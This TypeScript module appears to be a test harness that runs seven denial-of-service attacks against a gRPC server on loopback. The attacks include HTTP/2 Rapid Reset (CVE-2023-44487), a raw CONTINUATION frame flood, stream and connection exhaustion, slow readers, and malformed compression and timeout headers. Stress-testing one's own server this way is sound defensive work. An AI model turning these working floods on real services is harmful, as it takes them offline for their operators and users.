import type { ClientHttp2Session, ClientHttp2Stream, OutgoingHttpHeaders } from 'node:http2';
import { connect } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { connect as connectTls } from 'node:tls';

/** Whom to attack, with a certificate that is good. */
export interface Target {
  readonly port: number;
  /** All PEM. */
  readonly ca: string;
  readonly certificate: string;
  readonly key: string;
  /** The address on loopback from which to attack: others have other ones. */
  readonly from: string;
}

/** Does so many of something bad; gives everything back that is still open. */
export type Attack = (target: Target, count: number) => Promise<void>;

const checkPath = '/grpc.health.v1.Health/Check';
const reflectionPath = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const emptyMessage = Buffer.alloc(5);
/** Asks for a file of some ten kilobytes: `file_containing_symbol`. */
const symbol = Buffer.from('cell.v1.ComputeService');
const reflectionMessage = Buffer.concat([Buffer.from([0, 0, 0, 0, symbol.length + 2, 0x22, symbol.length]), symbol]);
const waves = 50;
/** More of them make the attacker slow, not the target. */
const resetsPerConnection = 2_000;
const connectWithinMs = 2_000;
/** Whoever is refused tries again so soon. */
const refusedMs = 5;

/** Opens calls and resets each at once (CVE-2023-44487), on new connections when the old ones are closed for it. */
export const rapidReset: Attack = async (target, count) => {
  for (let reset = 0; reset < count; ) {
    const session = await open(target);
    const enough = Math.min(count, reset + resetsPerConnection);
    while (isOpen(session) && reset < enough) {
      for (let index = 0; index < waves && isOpen(session); index += 1, reset += 1) {
        const stream = request(session, checkPath);
        stream.write(emptyMessage);
        stream.close(8);
      }
      await delay(1);
    }
    session.destroy();
  }
};

/** Sends headers that never end: a HEADERS frame and CONTINUATION frames after it. `count` frames in all, on new connections when need be. */
export const continuationFlood: Attack = async (target, count) => {
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  // SETTINGS, and HEADERS with the indexed header `:method: POST`, which are not at their end.
  const headers = Buffer.concat([frame(4, 0, []), frame(1, 1, [0x83])]);
  // CONTINUATION with one header that is written out: `a: b`.
  const more = Buffer.concat(Array.from({ length: waves }, () => frame(9, 1, [0, 1, 0x61, 1, 0x62])));
  for (let sent = 0; sent < count; ) {
    const socket = await openSocket(target);
    socket.write(Buffer.concat([preface, headers]));
    while (!socket.destroyed && sent < count) {
      socket.write(more);
      sent += waves;
      await delay(1);
    }
    socket.destroy();
  }
};

/** Opens calls and sends neither a message nor an end. */
export const halfOpenStreams: Attack = async (target, count) => {
  const sessions: ClientHttp2Session[] = [];
  for (let opened = 0; opened < count; ) {
    const session = await open(target);
    sessions.push(session);
    for (let index = 0; index < 200 && opened < count; index += 1, opened += 1) request(session, checkPath);
    await delay(10);
  }
  await delay(2_000);
  for (const session of sessions) session.destroy();
};

/** Opens connections and does nothing. */
export const idleConnections: Attack = async (target, count) => {
  const sessions: ClientHttp2Session[] = [];
  for (let tried = 0; tried < count; tried += waves) {
    const opened = await Promise.all(Array.from({ length: waves }, () => tryOpen(target)));
    sessions.push(...opened.filter((session) => session !== undefined));
  }
  await delay(2_000);
  for (const session of sessions) session.destroy();
};

/** Asks again and again for large answers, and reads none. */
export const slowReaders: Attack = async (target, count) => {
  const session = await open(target);
  const streams = Array.from({ length: Math.min(count, 100) }, () => {
    const stream = request(session, reflectionPath);
    stream.pause();
    return stream;
  });
  for (let asked = 0; asked < count && isOpen(session); asked += streams.length) {
    for (const stream of streams) if (!stream.closed && !stream.writableNeedDrain) stream.write(reflectionMessage);
    await delay(2);
  }
  session.destroy();
};

/** Sends messages that say that they are compressed and are not, or by nobody knows what. */
export const brokenCompression: Attack = (target, count) => {
  const garbage = Buffer.concat([Buffer.from([1, 0, 0, 0, 20]), Buffer.alloc(20, 0xa5)]);
  return callInWaves(target, count, (index) => ({
    body: garbage,
    headers: { 'grpc-encoding': ['gzip', 'deflate', 'identity', 'snappy'][index % 4] },
  }));
};

/** Asks for times that no clock has. */
export const endlessTimeouts: Attack = (target, count) =>
  callInWaves(target, count, (index) => ({
    body: emptyMessage,
    headers: { 'grpc-timeout': ['1000H', '99999999H', '99999999999S', '-1S', '0n', 'soon'][index % 6] },
  }));

export const attacks = {
  rapidReset,
  continuationFlood,
  halfOpenStreams,
  idleConnections,
  slowReaders,
  brokenCompression,
  endlessTimeouts,
} as const satisfies Record<string, Attack>;

async function callInWaves(
  target: Target,
  count: number,
  callOf: (index: number) => { readonly body: Buffer; readonly headers: OutgoingHttpHeaders },
): Promise<void> {
  let session = await open(target);
  for (let sent = 0; sent < count; sent += waves) {
    if (!isOpen(session)) session = await open(target);
    const ends = Array.from({ length: waves }, (_, index) => {
      const { body, headers } = callOf(index);
      const stream = request(session, checkPath, headers);
      stream.end(body);
      stream.resume();
      return new Promise((resolve) => stream.once('close', resolve));
    });
    await Promise.all(ends);
  }
  session.destroy();
}

function request(session: ClientHttp2Session, path: string, headers: OutgoingHttpHeaders = {}): ClientHttp2Stream {
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  });
  stream.on('error', () => undefined);
  return stream;
}

const isOpen = (session: ClientHttp2Session): boolean => !session.closed && !session.destroyed;

/** A new connection; tries until there is one, for the target closes some before they are made. */
async function open(target: Target): Promise<ClientHttp2Session> {
  for (;;) {
    const session = await tryOpen(target);
    if (session !== undefined) return session;
    await delay(refusedMs);
  }
}

async function tryOpen(target: Target): Promise<ClientHttp2Session | undefined> {
  const session = connect('https://localhost', { createConnection: () => newSocket(target) });
  const isMade = await new Promise<boolean>((resolve) => {
    session.once('connect', () => resolve(true));
    for (const event of ['error', 'close']) session.on(event, () => resolve(false));
    setTimeout(resolve, connectWithinMs, false).unref();
  });
  if (isMade) return session;
  session.destroy();
  return undefined;
}

function newSocket({ port, ca, certificate, key, from }: Target): TLSSocket {
  const where = { port, host: 'localhost', servername: 'localhost', localAddress: from };
  return connectTls({ ...where, ca, cert: certificate, key, ALPNProtocols: ['h2'] });
}

async function openSocket(target: Target): Promise<TLSSocket> {
  for (;;) {
    const socket = newSocket(target);
    const isMade = await new Promise<boolean>((resolve) => {
      socket.once('secureConnect', () => resolve(true));
      for (const event of ['error', 'close']) socket.on(event, () => resolve(false));
    });
    socket.resume();
    if (isMade) return socket;
    await delay(refusedMs);
  }
}

function frame(type: number, stream: number, payload: readonly number[]): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, Buffer.from(payload)]);
}
